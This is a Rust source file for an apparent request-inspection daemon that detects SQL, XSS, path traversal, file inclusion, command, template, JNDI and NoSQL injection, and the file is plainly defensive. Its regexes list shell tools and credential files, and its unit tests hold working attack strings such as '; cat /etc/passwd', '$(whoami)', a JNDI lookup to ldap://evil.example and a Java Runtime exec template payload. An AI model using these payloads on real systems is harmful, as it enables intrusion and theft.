//! Injection in one decoded input: SQL and XSS with libinjection (the pure-Rust port,
//! see docs/detections.md for its evaluation), path traversal and file inclusion,
//! OS commands, template and expression languages, JNDI lookups, NoSQL operators.

use std::sync::LazyLock;

use regex::Regex;

use super::{
    catalog::{self, RuleInfo},
    inputs::{Input, Location},
};

/// libinjection is a port of C code: should it ever panic on some input, the
/// daemon counts a finding-less input instead of dying.
fn guarded(check: impl FnOnce() -> bool + std::panic::UnwindSafe) -> bool {
    std::panic::catch_unwind(check).unwrap_or(false)
}

/// Whether a value could hold SQL beyond one plain word: libinjection is the costly
/// check, and most values are words, numbers or identifiers.
fn sql_candidate(value: &str) -> bool {
    value.len() >= 2
        && value.bytes().any(|b| {
            matches!(
                b,
                b'\''
                    | b'"'
                    | b'`'
                    | b';'
                    | b'('
                    | b')'
                    | b'='
                    | b'-'
                    | b'#'
                    | b'/'
                    | b'*'
                    | b'|'
                    | b'&'
                    | b' '
                    | b'\t'
                    | b'\n'
                    | b'+'
                    | b','
            )
        })
}

fn xss_candidate(value: &str) -> bool {
    value
        .bytes()
        .any(|b| matches!(b, b'<' | b'>' | b'"' | b'\'' | b'`' | b'='))
        || value
            .as_bytes()
            .windows(7)
            .any(|w| w.eq_ignore_ascii_case(b"script:"))
}

/// Whether scanning `value` would call libinjection (worth remembering the result).
pub fn costly(value: &str) -> bool {
    sql_candidate(value) || xss_candidate(value)
}

pub fn sqli(input: &Input<'_>) -> bool {
    sql_candidate(&input.value)
        && (guarded(|| libinjectionrs::detect_sqli(input.value.as_bytes()).is_injection())
            || STACKED_SQL.is_match(&input.value))
}

/// A statement stacked after a closed literal or number (`'; DROP TABLE`), which
/// libinjection's fingerprints leave out for the rarer verbs.
static STACKED_SQL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?ix)
        (?:^|['\x22\d)])\s*;\s*
        (?: drop\s+(?:table|database|schema|user|view|index|function|procedure|trigger)\b
          | truncate\s+(?:table\s+)?[\w.`\x22\[]
          | create\s+(?:table|database|schema|user|login|view|function|procedure|trigger|role)\b
          | alter\s+(?:table|database|user|login|role)\b
          | insert\s+into\b | update\s+[\w.`\x22\[\]]+\s+set\b | delete\s+from\b
          | exec(?:ute)?\s+(?:xp_|sp_|master\.|\w+\s*\()
          | shutdown\b | copy\s*\( | copy\s+[\w.]+\s+(?:to|from)\b
          | grant\s+\w+(?:\s*,\s*\w+)*\s+on\b | declare\s+@ | load\s+data\b
        )",
    )
});

pub fn xss(input: &Input<'_>) -> bool {
    if !xss_candidate(&input.value) {
        return false;
    }
    // An XML declaration is inert in HTML (a bogus comment) but libinjection flags any
    // `<?`: the rest of the value is what gets inspected.
    let markup = strip_xml_declaration(&input.value);
    if guarded(|| libinjectionrs::detect_xss(markup.as_bytes()).is_injection()) {
        return true;
    }
    // libinjection leaves URL-only vectors to the caller, and a script tag broken
    // up by another (`<scr<script>ipt>`) slips through its tokenizer.
    SCRIPT_URL.is_match(&input.value) || SCRIPT_TAG.is_match(&input.value)
}

/// `value` without a leading `<?xml ...?>` declaration (only that one: `<?php` is code).
fn strip_xml_declaration(value: &str) -> &str {
    let trimmed = value.trim_start();
    let declaration = trimmed
        .get(..5)
        .is_some_and(|s| s.eq_ignore_ascii_case("<?xml"))
        && trimmed
            .get(5..)
            .is_some_and(|rest| rest.starts_with([' ', '\t', '\r', '\n', '?']));
    if !declaration {
        return value;
    }
    match trimmed.find("?>") {
        // A declaration holds no markup of its own.
        Some(end) if !trimmed[2..end].contains('<') => &trimmed[end + 2..],
        _ => value,
    }
}

/// Script URLs, with the whitespace browsers drop inside a scheme (`jav\tascript:`).
static SCRIPT_URL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r#"(?ix)
        (?:^|[\s"'=(`])
        (?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:
      | ^\s*data\s*:\s*text/html"#,
    )
});

static SCRIPT_TAG: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?i)<script[\s/>]"));

#[allow(
    clippy::expect_used,
    reason = "literal patterns, each compiled by the unit tests"
)]
fn pattern(source: &str) -> Regex {
    Regex::new(source).expect("detection pattern compiles")
}

/// Climbing two levels or more (`../../`, `..\..\`, with filler like `....//` or
/// `..;/`), or dots and slashes in overlong UTF-8: one `../` is common in benign
/// relative links, so alone it is the paranoia-2 rule `path-traversal-relative`.
static TRAVERSAL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r"\.\.[./;]*[/\\]+[./;]*\.\.(?:[/\\;]|$)|\.\.\x{fffd}|\x{fffd}\.\.|%c0%a[ef]|%c1%9c")
});

static RELATIVE_STEP: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?:^|[/\\])\.\.(?:[/\\]|$)"));

static SYSTEM_FILE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?ix)
        (?:^|[/\\]|\x00)(?:
            etc[/\\](?:passwd|shadow|group|hosts|issue|sudoers|crontab|ssh[/\\]|os-release)
          | proc[/\\](?:self|\d+)[/\\](?:environ|cmdline|maps|fd|status|cwd)
          | (?:root|home[/\\][^/\\]+)[/\\]\.(?:ssh|bash_history|aws)
          | var[/\\]log[/\\]
          | windows[/\\](?:win\.ini|system32)
          | boot\.ini
          | web-inf[/\\]
          | \.htaccess | \.htpasswd | \.git[/\\](?:config|head) | \.env$
        )
        | ^(?:php|phar|zip|expect|data|glob)://",
    )
});

/// A shell command after a separator. Commands that take arguments need one (or a
/// start-of-value separator: `;ls`), so delimited lists (`fields=name;id`,
/// `tags=dogs;cat`) and prose (`Tom & Jerry; cat videos`) pass; a separator glued
/// between words counts only before a command with an argument, or after a digit or
/// quote (`127.0.0.1;id`).
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    const ARG_COMMANDS: &str = r"(?:cat|tac|head|tail|more|less|nl|ls|dir|type|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|ksh|ping|nslookup|dig|host|sleep|echo|printf|rm|cp|mv|chmod|chown|python[23]?|perl|ruby|php|node|powershell|pwsh|cmd(?:\.exe)?|telnet|ssh|scp|base64|xxd|find|grep|awk|sed|kill|pkill|touch|mkdir|crontab|useradd|nohup|timeout|eval|exec|socat)";
    const BARE_COMMANDS: &str = r"(?:id|whoami|uname|pwd|ifconfig|ipconfig|hostname|env|printenv|ps|w|who|reboot|shutdown|netstat)";
    const ARGS: &str =
        r#"(?:\s+(?:[-/$~'"\d.<>]|[\w-]+[./:]\S|[\w-]+\s*[<>|;&])|\s*\$\{IFS\}|\s*[<>])"#;
    const END: &str = r"\s*(?:$|[;|&`)\#<>])";
    const PATH: &str = r"(?:[\w./-]*/)?";
    let net = r"net\s+(?:user|localgroup|view|share|use|session)\b";
    pattern(&format!(
        r"(?i)^\s*(?:[;|&`]+|\$\()\s*{PATH}(?:{ARG_COMMANDS}(?:{ARGS}|{END})|{BARE_COMMANDS}(?:{END}|\s+[-/])|{net})|(?:[;|&`]\s+|\$\(|\|\||&&|[\n\r])\s*{PATH}(?:{ARG_COMMANDS}{ARGS}|{BARE_COMMANDS}(?:{END}|\s+[-/])|{net})|[;|&]{PATH}{ARG_COMMANDS}{ARGS}|[\d'\x22)][;|&]{PATH}{BARE_COMMANDS}(?:{END}|\s+[-/])|`[^`]*\b(?:id|whoami|uname|cat|ls|sleep|curl|wget|ping)\b[^`]*`|\$\{{IFS\}}"
    ))
});

static TEMPLATE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?ix)
        \{\{[^}]*(?:\d\s*[*+/-]\s*['\x22]?\d|__\w+__|\bconfig\b|\b_?self\b|\brequest\b|lipsum|cycler|joiner|\bnamespace\b|\[\s*['\x22]|\|\s*attr|\.\s*constructor)
      | \{%\s*(?:import|include|set|for|if|macro|block|extends|raw)\b
      | \$\{\s*\d+\s*[*+/-]\s*\d+\s*\}
      | \#\{\s*\d+\s*[*+/-]\s*\d+\s*\}
      | <%=?\s*[^%]*(?:\d\s*[*+]\s*\d|system|exec|eval|runtime|request|`)
      | \$\{[^}]*(?:\bT\s*\(|getRuntime|getClass|\bnew\s+java|\.exec\s*\(|freemarker|ProcessBuilder)
      | <\#(?:assign|include|import)
      | \#set\s*\(\s*\$
      | \*\{[^}]*\bT\s*\(",
    )
});

static JNDI: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"(?i)\$\{[^}]*(?:jndi|\$\{|lower:|upper:|::-|env:|sys:|java:)"));

// Not `$type`: .NET serializers write it on every polymorphic object.
const NOSQL_OPERATORS: &[&str] = &[
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$where",
    "$exists",
    "$or",
    "$and",
    "$not",
    "$nor",
    "$expr",
    "$function",
    "$accumulator",
    "$elemmatch",
    "$size",
    "$all",
    "$mod",
    "$text",
    "$jsonschema",
];

fn nosql_operator(name: &str) -> bool {
    let lower = name.trim().to_ascii_lowercase();
    NOSQL_OPERATORS.contains(&lower.as_str())
}

/// `user[$ne]=` (PHP and Express parse brackets into objects).
fn bracket_operator(name: &str) -> bool {
    name.split(['[', ']'])
        .filter(|part| part.starts_with('$'))
        .any(nosql_operator)
}

/// The injection rules `input` breaks.
pub fn scan(input: &Input<'_>, out: &mut Vec<&'static RuleInfo>) {
    let value: &str = &input.value;
    match input.location {
        Location::JsonKey => {
            if nosql_operator(value) {
                out.push(catalog::NOSQL_INJECTION);
            }
            return;
        }
        Location::QueryName | Location::FormName if bracket_operator(value) => {
            out.push(catalog::NOSQL_INJECTION);
        }
        _ => {}
    }
    if sqli(input) {
        out.push(catalog::SQLI);
    }
    if xss(input) {
        out.push(catalog::XSS);
    }
    if value.contains("..") || value.contains('%') {
        if TRAVERSAL.is_match(value) {
            out.push(catalog::PATH_TRAVERSAL);
        } else if RELATIVE_STEP.is_match(value) {
            out.push(catalog::PATH_TRAVERSAL_RELATIVE);
        }
    }
    if value.contains(['/', '\\', ':']) && SYSTEM_FILE.is_match(value) {
        out.push(catalog::FILE_INCLUSION);
    }
    if value.contains([';', '|', '&', '`', '$', '\n', '\r']) && COMMAND.is_match(value) {
        out.push(catalog::COMMAND_INJECTION);
    }
    if value.contains(['{', '%', '#', '*']) && TEMPLATE.is_match(value) {
        out.push(catalog::TEMPLATE_INJECTION);
    }
    if value.contains("${") && JNDI.is_match(value) {
        out.push(catalog::JNDI_INJECTION);
    }
    if input.location.is_parameter_value()
        && value.starts_with('$')
        && (value.contains("where") || value.contains("function"))
    {
        out.push(catalog::NOSQL_INJECTION);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(location: Location, value: &str) -> Vec<&'static str> {
        let input = Input {
            location,
            name: "q".into(),
            value: super::super::decode::normalise(value),
        };
        let mut out = Vec::new();
        scan(&input, &mut out);
        out.iter().map(|r| r.id).collect()
    }

    fn fires(value: &str, rule: &str) {
        assert!(
            rules(Location::Query, value).contains(&rule),
            "{value:?} should trigger {rule}, got {:?}",
            rules(Location::Query, value)
        );
    }

    fn clean(value: &str) {
        assert_eq!(
            rules(Location::Query, value),
            Vec::<&str>::new(),
            "{value:?}"
        );
    }

    #[test]
    fn patterns_compile() {
        for re in [
            &SCRIPT_URL,
            &SCRIPT_TAG,
            &RELATIVE_STEP,
            &STACKED_SQL,
            &TRAVERSAL,
            &SYSTEM_FILE,
            &COMMAND,
            &TEMPLATE,
            &JNDI,
        ] {
            assert!(!re.as_str().is_empty());
        }
    }

    #[test]
    fn finds_each_kind_of_injection() {
        fires("1' OR '1'='1", "sqli");
        fires("1 UNION SELECT username,password FROM users--", "sqli");
        fires("%27%20or%201%3D1--", "sqli");
        fires("<script>alert(1)</script>", "xss");
        fires("&lt;img src=x onerror=alert(1)&gt;", "xss");
        fires("javascript:alert(document.cookie)", "xss");
        fires("<?xml version=\"1.0\"?><script>alert(1)</script>", "xss");
        fires("<?xml <script>alert(1)</script>?>", "xss");
        fires("../../../../etc/passwd", "path-traversal");
        fires("..%252f..%252f..%252fetc%252fpasswd", "file-inclusion");
        fires("..\\..\\windows\\win.ini", "path-traversal");
        fires("; cat /etc/passwd", "command-injection");
        fires("127.0.0.1 | id", "command-injection");
        fires("$(whoami)", "command-injection");
        fires("`id`", "command-injection");
        fires("a;sleep${IFS}5", "command-injection");
        fires("127.0.0.1;id", "command-injection");
        fires(";ls", "command-injection");
        fires("x;cat /etc/hosts", "command-injection");
        fires("1; DROP TABLE users--", "sqli");
        fires("'; EXEC master..xp_cmdshell 'dir'--", "sqli");
        fires("{{7*7}}", "template-injection");
        fires("{{ config.items() }}", "template-injection");
        fires(
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "template-injection",
        );
        fires("${jndi:ldap://evil.example/a}", "jndi-injection");
        fires("${${lower:j}ndi:ldap://x/}", "jndi-injection");
        assert_eq!(rules(Location::JsonKey, "$ne"), ["nosql-injection"]);
        assert_eq!(
            rules(Location::QueryName, "password[$ne]"),
            ["nosql-injection"]
        );
    }

    /// libinjection is a machine port of C: random and mutated hostile inputs (quotes,
    /// comments, tags, NUL, invalid UTF-8) must come back with an answer, never a
    /// panic (which `guarded` would turn into a silent miss).
    #[test]
    fn libinjection_answers_every_input() {
        let seeds: &[&[u8]] = &[
            b"1' OR '1'='1",
            b"<script>alert(1)</script>",
            b"admin'--",
            b"1 UNION SELECT null,version()--",
            b"<img src=x onerror=alert(1)>",
            b"\"><svg/onload=alert(1)>",
            b"1) or sleep(5)#",
        ];
        const ALPHABET: &[u8] =
            b"'\"<>/\\-#;()=*&|`$!{}[] ,.aAsSeElLcCtT01 orunion select script on=%\x00\xff\n";
        let mut x: u64 = 0x1234_5678;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for _ in 0..20_000 {
            let mut input = Vec::new();
            if next() % 2 == 0 {
                input.extend_from_slice(seeds[next() as usize % seeds.len()]);
            }
            for _ in 0..next() % 64 {
                input.push(ALPHABET[next() as usize % ALPHABET.len()]);
            }
            let answered = std::panic::catch_unwind(|| {
                libinjectionrs::detect_sqli(&input).is_injection();
                libinjectionrs::detect_xss(&input).is_injection();
            });
            assert!(answered.is_ok(), "libinjection panicked on {input:?}");
        }
    }

    #[test]
    fn leaves_ordinary_values_alone() {
        for value in [
            "O'Brien",
            "rock 'n' roll",
            "Tom & Jerry; cat videos",
            "It's a \"great\" day -- really",
            "SELECT your plan",
            "50% off (today only)",
            "user@example.com",
            "2024-01-31T10:00:00Z",
            "<b>bold</b> and <i>italic</i>",
            "a/b/c.txt",
            "1.2.3",
            "{{firstName}} welcome",
            "price: $5 * 3",
            "we ran ls on it, then id",
            "name;id",
            "name|id",
            "dogs;cat",
            "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; Touch; rv:11.0) like Gecko",
            "Fixed in v2; update now",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
            "<?xml version=\"1.0\"?><note><to>Ann</to></note>",
            "aGVsbG8gd29ybGQ=",
        ] {
            clean(value);
        }
    }
}
